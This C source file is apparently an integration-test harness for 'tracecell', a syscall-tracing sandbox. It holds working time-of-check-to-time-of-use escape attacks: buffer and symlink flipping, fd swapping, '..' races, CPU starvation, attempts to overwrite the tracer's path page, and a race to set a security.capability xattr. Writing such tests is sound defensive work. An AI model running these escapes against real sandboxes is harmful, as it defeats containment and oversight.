// race: time-of-check-to-time-of-use attacks on a path-checking tracer,
// for the tracecell integration suite.
//
//   race flip    OKPATH VICTIM SECONDS   a thread flips the path buffer between
//                                        OKPATH and VICTIM; main opens it for writing
//   race flipshm OKPATH VICTIM SECONDS   the same, but the flipper is a forked
//                                        process and the buffer a MAP_SHARED mapping
//   race swap    LINK OKFILE VICTIM SECONDS
//                                        a forked child swaps LINK between a
//                                        symlink to OKFILE and one to VICTIM
//                                        (renameat2 RENAME_EXCHANGE); main opens LINK
//   race cwd     OKDIR OUTDIR NAME SECONDS
//                                        a thread flips the shared cwd between
//                                        OKDIR and OUTDIR; main opens NAME (relative)
//   race fifo    FIFO                    main opens FIFO for writing (blocks); a
//                                        second thread opens it for reading 300 ms later
//   race fdswap  OKFILE VICTIM SECONDS   a thread flips fd 100 with dup2 between OKFILE
//                                        and VICTIM, both opened read-only; main opens
//                                        /proc/self/fd/100 for writing
//   race dotdot  SBX VICTIM SECONDS      VICTIM is in a sibling of SBX. Each round a
//                                        symlink SBX/aN -> SBX/deep/t is made; main
//                                        opens SBX/aN/../../HOSTDIR/VICTIMNAME for writing
//                                        (SBX/HOSTDIR/VICTIMNAME through the symlink,
//                                        VICTIM through a directory) while a thread
//                                        unlinks SBX/aN and makes a directory there
//   race stuck   SBX VICTIM SECONDS      dotdot, one round a second, with main kept off
//                                        its CPU (SCHED_FIFO, needs CAP_SYS_NICE: else
//                                        "result: skip") by a thread in a 1.5 s call
//                                        for as long as the unlink's freeze waits
//   race page    OKPATH VICTIM SECONDS   a thread tries every way to make tracecell's
//                                        path page (8 GiB, 64 slots of 4096 bytes)
//                                        writable (brk after PR_SET_MM_MAP included)
//                                        and writes VICTIM into every slot; main opens
//                                        OKPATH for writing
//   race pagefirst OKPATH VICTIM SECONDS the program maps the page's range itself,
//                                        writable, first; a thread writes VICTIM
//                                        into every slot; main opens OKPATH
//   race xattrname FILE SECONDS         a thread flips the name buffer between
//                                        "user.tracecell-xattr" and
//                                        "security.capability"; main sets that name on
//                                        FILE (in the sandbox) to a file capability
//                                        (cap_net_raw, effective) until the kernel set
//                                        security.capability or SECONDS have passed.
//                                        Prints "result: xattr set=N denied=D tries=T
//                                        caps=yes|no" (caps: getxattr after the loop;
//                                        the test reads the file itself)
//   race argregs DIR N                   not an attack: with a second thread alive (so
//                                        checked calls run on tracecell's path page),
//                                        N raw openat(O_CREAT) and unlink(at) calls of
//                                        DIR/aN, each checking that the kernel's syscall
//                                        ABI held: every argument register the call does
//                                        not return in is unchanged after it. Prints
//                                        "result: argregs ok=N bad=M" (and the first bad
//                                        register)
//
// The attack cases loop until SECONDS have passed or until one open reached
// the victim (fstat shows the victim's inode), write "ESCAPED" through what
// they opened, and print "result: escapes=N opens=M denied=D tries=T".
// The test never trusts this line: the victim's content and mtime are the
// ground truth.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <linux/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static atomic_int stop;
static char sbuf[4096];
static char *buf = sbuf;
static const char *pa, *pb;

static double now(void) {
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void *flipper(void *arg) {
	(void)arg;
	size_t la = strlen(pa) + 1, lb = strlen(pb) + 1;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(buf, pa, la);
		for (volatile int i = 0; i < 50; i++)
			;
		memcpy(buf, pb, lb);
		for (volatile int i = 0; i < 50; i++)
			;
	}
	return NULL;
}

static const char *cwd_a, *cwd_b;

static void *cwdflipper(void *arg) {
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		if (chdir(cwd_a) != 0 || chdir(cwd_b) != 0) {
			perror("chdir");
			exit(2);
		}
	}
	return NULL;
}

// attack opens path for writing until secs have passed or the victim was
// reached, and prints the result line.
static void attack(const char *path, const char *victim, double secs) {
	struct stat vst;
	if (stat(victim, &vst) != 0) {
		perror("stat victim");
		exit(2);
	}
	long escapes = 0, opens = 0, denied = 0, tries = 0;
	double end = now() + secs;
	while (escapes == 0 && now() < end) {
		for (int k = 0; k < 64; k++) {
			tries++;
			int fd = open(path, O_WRONLY | O_TRUNC);
			if (fd < 0) {
				if (errno == EACCES || errno == EPERM)
					denied++;
				continue;
			}
			opens++;
			struct stat st;
			if (fstat(fd, &st) == 0 && st.st_dev == vst.st_dev && st.st_ino == vst.st_ino) {
				escapes++;
				if (write(fd, "ESCAPED\n", 8) != 8)
					perror("write");
			}
			close(fd);
		}
	}
	atomic_store(&stop, 1);
	printf("result: escapes=%ld opens=%ld denied=%ld tries=%ld\n", escapes, opens, denied, tries);
	fflush(stdout);
}

#define PAGE_ADDR ((char *)(2UL << 32))
#define PAGE_SIZE_ (64UL * 4096)

static atomic_long page_wins; // calls on the page that succeeded

// fill writes pb into every slot of the page, if it is writable by now.
static void fill(char *p) {
	for (unsigned long o = 0; o < PAGE_SIZE_; o += 4096)
		memcpy(p + o, pb, strlen(pb) + 1);
}

static void win(void) { atomic_fetch_add(&page_wins, 1); }
static atomic_int mseal_enosys; // the kernel has no mseal (before 6.10)

// take_by_brk moves the heap's bounds around the page with
// prctl(PR_SET_MM_MAP), which needs no capability, and shrinks the heap:
// brk unmaps whatever lies between the new and the old break. Then a mere
// hint maps writable memory there. 0 when that worked.
static int take_by_brk(void) {
	FILE *f = fopen("/proc/self/stat", "r");
	char b[4096];
	if (!f)
		return -1;
	if (!fgets(b, sizeof b, f)) {
		fclose(f);
		return -1;
	}
	fclose(f);
	char *s = strrchr(b, ')');
	if (!s)
		return -1;
	unsigned long v[64] = {0};
	int n = 0;
	for (char *tok = strtok(s + 2, " "); tok && n < 64; tok = strtok(NULL, " "))
		v[n++] = strtoul(tok, NULL, 10);
	if (n < 49)
		return -1;
	// proc(5) fields 26-28 and 45-51, from field 3 on.
	struct prctl_mm_map m = {
		.start_code = v[23], .end_code = v[24], .start_stack = v[25],
		.start_data = v[42], .end_data = v[43],
		.start_brk = (unsigned long)PAGE_ADDR - 4096, .brk = (unsigned long)PAGE_ADDR + PAGE_SIZE_,
		.arg_start = v[45], .arg_end = v[46], .env_start = v[47], .env_end = v[48],
		.exe_fd = (unsigned)-1,
	};
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0) != 0)
		return -1;
	if (syscall(SYS_brk, PAGE_ADDR) != (long)PAGE_ADDR)
		return -1;
	char *w = mmap(PAGE_ADDR, PAGE_SIZE_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (w != PAGE_ADDR) {
		if (w != MAP_FAILED)
			munmap(w, PAGE_SIZE_);
		return -1;
	}
	return 0;
}

static void *pager(void *arg) {
	(void)arg;
	int mem = -1;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		// Make the page writable in place.
		if (mprotect(PAGE_ADDR, PAGE_SIZE_, PROT_READ | PROT_WRITE) == 0) {
			win();
			fill(PAGE_ADDR);
		}
		if (syscall(SYS_pkey_mprotect, PAGE_ADDR, 4096, PROT_READ | PROT_WRITE, -1) == 0)
			win();
		// Replace it with a writable mapping.
		void *m = mmap(PAGE_ADDR, PAGE_SIZE_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		if (m != MAP_FAILED) {
			win();
			fill(m);
		}
		// Remove it, then map there with a mere hint.
		if (munmap(PAGE_ADDR + 4096, 4096) == 0)
			win();
		m = mmap(PAGE_ADDR, PAGE_SIZE_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (m == PAGE_ADDR) {
			win();
			fill(m);
		} else if (m != MAP_FAILED) {
			munmap(m, PAGE_SIZE_);
		}
		// Empty it (a private page reads as zeros after MADV_DONTNEED).
		if (madvise(PAGE_ADDR, PAGE_SIZE_, MADV_DONTNEED) == 0)
			win();
		// Seal it (mseal, 6.10; 462 on x86_64 and arm64): no content
		// changes, but the mapping is tracecell's to decide.
		if (syscall(462, PAGE_ADDR, PAGE_SIZE_, 0) != 0 && errno == ENOSYS)
			atomic_store(&mseal_enosys, 1);
		// Move a writable mapping of ours over it.
		char *w = mmap(NULL, PAGE_SIZE_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (w != MAP_FAILED) {
			fill(w);
			if (mremap(w, PAGE_SIZE_, PAGE_SIZE_, MREMAP_MAYMOVE | MREMAP_FIXED, PAGE_ADDR) == PAGE_ADDR)
				win();
			else
				munmap(w, PAGE_SIZE_);
		}
		// A range from below 4 GiB that covers it.
		if (mprotect((void *)0x10000, (2UL << 32) + 4096 - 0x10000, PROT_READ | PROT_WRITE) == 0)
			win();
		// Write through /proc/self/mem, which ignores the protection.
		if (mem < 0)
			mem = open("/proc/self/mem", O_RDWR);
		if (mem >= 0 && pwrite(mem, pb, strlen(pb) + 1, (off_t)(2UL << 32)) > 0)
			win();
		// Unmap it through brk, then map there with a mere hint.
		if (take_by_brk() == 0) {
			win();
			fill(PAGE_ADDR);
		}
	}
	return NULL;
}

static void *idler(void *arg) {
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed))
		usleep(1000);
	return NULL;
}

static void *filler(void *arg) {
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed))
		fill(PAGE_ADDR);
	return NULL;
}

// fdswap: dup2 flips fd 100; /proc/self/fd/100 is whatever it was last.
static int swap_a, swap_b;

static void *fdflipper(void *arg) {
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		dup2(swap_a, 100);
		dup2(swap_b, 100);
	}
	return NULL;
}

// dotdot and stuck share their world: SBX/deep/t, SBX/HOSTDIR, the round's
// symlink SBX/aN, and the path main opens.
static const char *dd_sbx;
static char dd_rel[4096]; // HOSTDIR/VICTIMNAME
static atomic_int dd_round = -1, dd_flipped = -1, dd_busy = -1, dd_popped = -1;

static void dd_name(char *b, size_t n, int i) { snprintf(b, n, "%s/a%d", dd_sbx, i); }

// dd_setup makes SBX/deep/t and SBX/HOSTDIR and fills dd_rel.
static void dd_setup(const char *sbx, const char *victim) {
	dd_sbx = sbx;
	char v[4096], b[4096];
	snprintf(v, sizeof v, "%s", victim);
	char *name = strrchr(v, '/');
	if (!name || name == v) {
		fprintf(stderr, "race: victim %s has no parent directory\n", victim);
		exit(2);
	}
	*name++ = 0;
	const char *host = strrchr(v, '/') + 1;
	snprintf(dd_rel, sizeof dd_rel, "%s/%s", host, name);
	snprintf(b, sizeof b, "%s/deep", sbx);
	mkdir(b, 0755);
	snprintf(b, sizeof b, "%s/deep/t", sbx);
	mkdir(b, 0755);
	snprintf(b, sizeof b, "%s/%s", sbx, host);
	mkdir(b, 0755);
}

// dd_attack opens SBX/aN/../../HOSTDIR/VICTIMNAME for writing, N the current
// round, until stop; pad "./" components come first (a longer walk).
static void dd_attack(const char *victim, int pad, long *counts) {
	struct stat vst;
	if (stat(victim, &vst) != 0) {
		perror("stat victim");
		exit(2);
	}
	static char p[4096];
	int last = -2;
	while (!atomic_load(&stop)) {
		int i = atomic_load(&dd_round);
		if (i < 0)
			continue;
		if (i != last) {
			int n = snprintf(p, sizeof p, "%s/", dd_sbx);
			for (int k = 0; k < pad && n < 3800; k++) {
				p[n++] = '.';
				p[n++] = '/';
			}
			snprintf(p + n, sizeof p - n, "a%d/../../%s", i, dd_rel);
			last = i;
		}
		counts[3]++;
		int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd < 0) {
			if (errno == EACCES || errno == EPERM)
				counts[2]++;
			continue;
		}
		counts[1]++;
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_dev == vst.st_dev && st.st_ino == vst.st_ino) {
			counts[0]++;
			if (write(fd, "ESCAPED\n", 8) != 8)
				perror("write");
			atomic_store(&stop, 1);
		}
		close(fd);
	}
}

// dd_flipper replaces each round's symlink with a directory, after a
// random delay (dotdot) or 20 ms into the populating thread's call (stuck).
static void *dd_flipper(void *arg) {
	int stuck = arg != NULL;
	unsigned r = 1;
	char b[4096];
	while (!atomic_load(&stop)) {
		int i = atomic_load(stuck ? &dd_busy : &dd_round);
		if (i < 0 || atomic_load(&dd_flipped) == i) {
			if (stuck)
				usleep(200);
			continue;
		}
		if (stuck) {
			usleep(20 * 1000);
		} else {
			// Anywhere in the cycle of the opens: spin 0-500 µs.
			r = r * 1103515245 + 12345;
			double until = now() + (r >> 16) % 500 / 1e6;
			while (now() < until)
				;
		}
		dd_name(b, sizeof b, i);
		unlink(b);
		mkdir(b, 0755);
		atomic_store(&dd_flipped, i);
	}
	return NULL;
}

static int pin(int cpu, int policy, int prio) {
	cpu_set_t set;
	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof set, &set) != 0)
		return -1;
	struct sched_param sp = {.sched_priority = prio};
	return policy == SCHED_OTHER ? 0 : sched_setscheduler(0, policy, &sp);
}

// dd_populate: each round, soon after it starts, a call that keeps its CPU
// (SCHED_FIFO 99) for about 1.5 s and never returns to user space before
// (MAP_POPULATE of 8 GiB read-only: page tables only, no memory; a
// populate stops only for fatal signals).
static void *dd_populate(void *arg) {
	(void)arg;
	if (pin(1, SCHED_FIFO, 99) != 0)
		return NULL;
	prctl(PR_SET_THP_DISABLE, 1, 0, 0, 0); // no huge zero page: a slow populate
	unsigned r = 7;
	int done = -1;
	while (!atomic_load(&stop)) {
		int i = atomic_load(&dd_round);
		if (i < 0 || i == done) {
			usleep(200);
			continue;
		}
		r = r * 1103515245 + 12345;
		struct timespec ts = {0, (long)((r >> 8) % 300) * 1000};
		nanosleep(&ts, NULL);
		atomic_store(&dd_busy, i);
		size_t n = 8UL << 30;
		void *m = mmap(NULL, n, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_NORESERVE, -1, 0);
		if (m != MAP_FAILED)
			munmap(m, n);
		done = i;
		atomic_store(&dd_popped, i);
	}
	return NULL;
}

// dd_opener runs dd_attack, for stuck on CPU 1 below the populating thread.
struct dd_args {
	const char *victim;
	long counts[4]; // escapes, opens, denied, tries
	int stuck;
};

static void *dd_opener(void *arg) {
	struct dd_args *a = arg;
	if (a->stuck && pin(1, SCHED_FIFO, 1) != 0) {
		perror("sched_setscheduler");
		exit(2);
	}
	dd_attack(a->victim, a->stuck ? 0 : 1800, a->counts);
	return NULL;
}

// dotdot and stuck: rounds of a fresh symlink until secs have passed or the
// victim was reached.
static int dotdot(const char *sbx, const char *victim, double secs, int stuck) {
	dd_setup(sbx, victim);
	struct dd_args a = {.victim = victim, .stuck = stuck};
	if (stuck) {
		// Can this tree use SCHED_FIFO at all? (CAP_SYS_NICE or RLIMIT_RTPRIO)
		struct sched_param sp = {.sched_priority = 1};
		if (sched_setscheduler(0, SCHED_FIFO, &sp) != 0) {
			printf("result: skip (SCHED_FIFO: %s)\n", strerror(errno));
			return 0;
		}
		sp.sched_priority = 0;
		sched_setscheduler(0, SCHED_OTHER, &sp);
		pin(0, SCHED_OTHER, 0);
	}
	pthread_t opener, flipper, populater;
	pthread_create(&opener, NULL, dd_opener, &a);
	pthread_create(&flipper, NULL, dd_flipper, stuck ? (void *)1 : NULL);
	if (stuck)
		pthread_create(&populater, NULL, dd_populate, NULL);
	double end = now() + secs;
	int i = 0;
	char b[4096], t[4096];
	snprintf(t, sizeof t, "%s/deep/t", sbx);
	while (!atomic_load(&stop) && now() < end) {
		dd_name(b, sizeof b, i);
		if (symlink(t, b) != 0) {
			perror("symlink");
			break;
		}
		atomic_store(&dd_round, i);
		while (!atomic_load(&stop) && now() < end &&
		       (atomic_load(&dd_flipped) != i || (stuck && atomic_load(&dd_popped) != i)))
			usleep(stuck ? 1000 : 50);
		usleep(200); // the opens of the next round come soon enough
		i++;
	}
	atomic_store(&stop, 1);
	pthread_join(opener, NULL);
	pthread_join(flipper, NULL);
	if (stuck)
		pthread_join(populater, NULL);
	printf("info: rounds=%d\n", i);
	printf("result: escapes=%ld opens=%ld denied=%ld tries=%ld\n", a.counts[0], a.counts[1], a.counts[2], a.counts[3]);
	return 0;
}

// raw_openat and raw_unlink make the call with inline assembly that tells
// the compiler the argument registers are kept (the x86_64 and arm64 syscall
// ABIs promise it; glibc's own inline syscalls rely on it) and store what
// the registers hold after it in after[]. They return the call's result.
#if defined(__x86_64__)
static long raw_openat(const char *p, long flags, long mode, long after[4]) {
	register long rdi __asm__("rdi") = AT_FDCWD;
	register long rsi __asm__("rsi") = (long)p;
	register long rdx __asm__("rdx") = flags;
	register long r10 __asm__("r10") = mode;
	long ret;
	__asm__ volatile("syscall"
	                 : "=a"(ret), "+r"(rdi), "+r"(rsi), "+r"(rdx), "+r"(r10)
	                 : "a"((long)SYS_openat)
	                 : "rcx", "r11", "memory");
	after[0] = rdi, after[1] = rsi, after[2] = rdx, after[3] = r10;
	return ret;
}

static long raw_unlink(const char *p, long after[4]) {
	register long rdi __asm__("rdi") = (long)p;
	long ret;
	__asm__ volatile("syscall" : "=a"(ret), "+r"(rdi) : "a"((long)SYS_unlink) : "rcx", "r11", "memory");
	after[0] = rdi;
	return ret;
}
#elif defined(__aarch64__)
static long raw_openat(const char *p, long flags, long mode, long after[4]) {
	register long x0 __asm__("x0") = AT_FDCWD; // also the result: not checked
	register long x1 __asm__("x1") = (long)p;
	register long x2 __asm__("x2") = flags;
	register long x3 __asm__("x3") = mode;
	register long x8 __asm__("x8") = SYS_openat;
	__asm__ volatile("svc #0" : "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x3) : "r"(x8) : "memory");
	after[0] = AT_FDCWD, after[1] = x1, after[2] = x2, after[3] = x3;
	return x0;
}

static long raw_unlink(const char *p, long after[4]) {
	register long x0 __asm__("x0") = AT_FDCWD;
	register long x1 __asm__("x1") = (long)p;
	register long x2 __asm__("x2") = 0;
	register long x8 __asm__("x8") = SYS_unlinkat;
	__asm__ volatile("svc #0" : "+r"(x0), "+r"(x1), "+r"(x2) : "r"(x8) : "memory");
	after[0] = x1, after[1] = x2;
	return x0;
}
#endif

static int argregs(const char *dir, int n) {
	pthread_t idle;
	pthread_create(&idle, NULL, idler, NULL);
	int ok = 0, bad = 0;
	for (int i = 0; i < n; i++) {
		char p[4096];
		snprintf(p, sizeof p, "%s/a%d", dir, i);
		long a[4];
		long fd = raw_openat(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644, a);
		long want[4] = {AT_FDCWD, (long)p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644};
		if (fd < 0) {
			printf("info: openat %s: %s\n", p, strerror(-fd));
			return 2;
		}
		close(fd);
		int good = !memcmp(a, want, sizeof want);
		if (!good && !bad)
			printf("info: openat call %d: registers after %lx %lx %lx %lx, before %lx %lx %lx %lx\n", i,
			       a[0], a[1], a[2], a[3], want[0], want[1], want[2], want[3]);
		long r = raw_unlink(p, a);
#if defined(__x86_64__)
		int ugood = a[0] == (long)p;
#else
		int ugood = a[0] == (long)p && a[1] == 0;
#endif
		if (r != 0) {
			printf("info: unlink %s: %s\n", p, strerror(-r));
			return 2;
		}
		if (!ugood && good && !bad)
			printf("info: unlink call %d: path register after %lx, before %lx\n", i, a[0], (long)p);
		good = good && ugood;
		ok += good;
		bad += !good;
	}
	atomic_store(&stop, 1);
	pthread_join(idle, NULL);
	printf("result: argregs ok=%d bad=%d\n", ok, bad);
	return 0;
}

static void *fifo_reader(void *arg) {
	usleep(300 * 1000);
	int fd = open((const char *)arg, O_RDONLY);
	if (fd < 0) {
		perror("open fifo for reading");
		return NULL;
	}
	char c;
	if (read(fd, &c, 1) != 1)
		perror("read fifo");
	close(fd);
	return NULL;
}

// xattrname sets a name flipped by a thread (flipper, over buf) on file
// until security.capability is there or secs have passed. The value is a
// struct vfs_cap_data revision 2 (linux/capability.h): magic_etc
// VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, permitted cap_net_raw.
static int xattrname(const char *file, double secs) {
	int fd = open(file, O_CREAT | O_WRONLY, 0755);
	if (fd < 0) {
		perror("open");
		return 2;
	}
	close(fd);
	unsigned int cap[5] = {0x02000000 | 1, 1u << 13, 0, 0, 0};
	pa = "user.tracecell-xattr";
	pb = "security.capability";
	memcpy(buf, pa, strlen(pa) + 1);
	pthread_t th;
	pthread_create(&th, NULL, flipper, NULL);
	long set = 0, denied = 0, tries = 0;
	char v[64];
	double end = now() + secs;
	while (now() < end && getxattr(file, pb, v, sizeof v) < 0) {
		for (int k = 0; k < 64; k++) {
			tries++;
			if (setxattr(file, buf, cap, sizeof cap, 0) == 0)
				set++;
			else if (errno == EACCES || errno == EPERM)
				denied++;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	printf("result: xattr set=%ld denied=%ld tries=%ld caps=%s\n", set, denied, tries,
	       getxattr(file, pb, v, sizeof v) > 0 ? "yes" : "no");
	return 0;
}

int main(int argc, char **argv) {
	if (argc < 2) {
		fprintf(stderr, "usage: race flip|flipshm|swap|cwd|page|pagefirst|fifo|fdswap|dotdot|stuck|xattrname|argregs ARGS...\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	const char *c = argv[1];
	pthread_t th;
	if (!strcmp(c, "flip") && argc == 5) {
		pa = argv[2];
		pb = argv[3];
		memcpy(buf, pa, strlen(pa) + 1);
		pthread_create(&th, NULL, flipper, NULL);
		attack(buf, argv[3], atof(argv[4]));
		pthread_join(th, NULL);
		return 0;
	}
	if (!strcmp(c, "flipshm") && argc == 5) {
		pa = argv[2];
		pb = argv[3];
		buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
		if (buf == MAP_FAILED) {
			perror("mmap");
			return 2;
		}
		memcpy(buf, pa, strlen(pa) + 1);
		pid_t pid = fork();
		if (pid == 0) {
			flipper(NULL);
			_exit(0);
		}
		attack(buf, argv[3], atof(argv[4]));
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		return 0;
	}
	if (!strcmp(c, "cwd") && argc == 6) {
		cwd_a = argv[2];
		cwd_b = argv[3];
		char victim[4096];
		snprintf(victim, sizeof victim, "%s/%s", argv[3], argv[4]);
		pthread_create(&th, NULL, cwdflipper, NULL);
		attack(argv[4], victim, atof(argv[5]));
		pthread_join(th, NULL);
		return 0;
	}
	if (!strcmp(c, "swap") && argc == 6) {
		// LINK -> OKFILE, LINK.spare -> VICTIM; the child exchanges them.
		char spare[4096];
		snprintf(spare, sizeof spare, "%s.spare", argv[2]);
		unlink(argv[2]);
		unlink(spare);
		if (symlink(argv[3], argv[2]) != 0 || symlink(argv[4], spare) != 0) {
			perror("symlink");
			return 2;
		}
		pid_t pid = fork();
		if (pid == 0) {
			for (;;) {
				if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, spare, RENAME_EXCHANGE) != 0) {
					printf("info: renameat2: %s\n", strerror(errno));
					_exit(1);
				}
			}
		}
		attack(argv[2], argv[4], atof(argv[5]));
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		return 0;
	}
	if (!strcmp(c, "xattrname") && argc == 4)
		return xattrname(argv[2], atof(argv[3]));
	if (!strcmp(c, "argregs") && argc == 4)
		return argregs(argv[2], atoi(argv[3]));
	if (!strcmp(c, "page") && argc == 5) {
		pa = argv[2];
		pb = argv[3];
		// With a second task in the tree, the first checked open maps the
		// page (before that, the range is free for anyone: see pagefirst).
		pthread_t idle;
		pthread_create(&idle, NULL, idler, NULL);
		int fd = open(pa, O_WRONLY);
		if (fd >= 0)
			close(fd);
		pthread_create(&th, NULL, pager, NULL);
		attack(pa, argv[3], atof(argv[4]));
		pthread_join(th, NULL);
		pthread_join(idle, NULL);
		printf("info: page_wins=%ld\n", atomic_load(&page_wins));
		printf("info: mseal_enosys=%d\n", atomic_load(&mseal_enosys));
		return 0;
	}
	if (!strcmp(c, "pagefirst") && argc == 5) {
		// The program takes the page's range first, writable, and keeps
		// writing VICTIM into every slot: tracecell must not use it.
		pa = argv[2];
		pb = argv[3];
		char *m = mmap(PAGE_ADDR, PAGE_SIZE_, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		if (m != PAGE_ADDR) {
			printf("info: cannot map the range first\n");
			return 2;
		}
		pthread_create(&th, NULL, filler, NULL);
		attack(pa, argv[3], atof(argv[4]));
		pthread_join(th, NULL);
		return 0;
	}
	if (!strcmp(c, "fdswap") && argc == 5) {
		swap_a = open(argv[2], O_RDONLY);
		swap_b = open(argv[3], O_RDONLY);
		if (swap_a < 0 || swap_b < 0) {
			perror("open");
			return 2;
		}
		dup2(swap_a, 100);
		pthread_create(&th, NULL, fdflipper, NULL);
		attack("/proc/self/fd/100", argv[3], atof(argv[4]));
		pthread_join(th, NULL);
		return 0;
	}
	if ((!strcmp(c, "dotdot") || !strcmp(c, "stuck")) && argc == 5)
		return dotdot(argv[2], argv[3], atof(argv[4]), !strcmp(c, "stuck"));
	if (!strcmp(c, "fifo") && argc == 3) {
		unlink(argv[2]);
		if (mkfifo(argv[2], 0600) != 0) {
			perror("mkfifo");
			return 2;
		}
		pthread_create(&th, NULL, fifo_reader, argv[2]);
		double t0 = now();
		int fd = open(argv[2], O_WRONLY);
		if (fd < 0) {
			printf("result: errno=%d\n", errno);
			return 0;
		}
		if (write(fd, "x", 1) != 1)
			perror("write fifo");
		close(fd);
		pthread_join(th, NULL);
		printf("result: ok waited=%.0fms\n", (now() - t0) * 1000);
		return 0;
	}
	fprintf(stderr, "race: bad arguments\n");
	return 2;
}
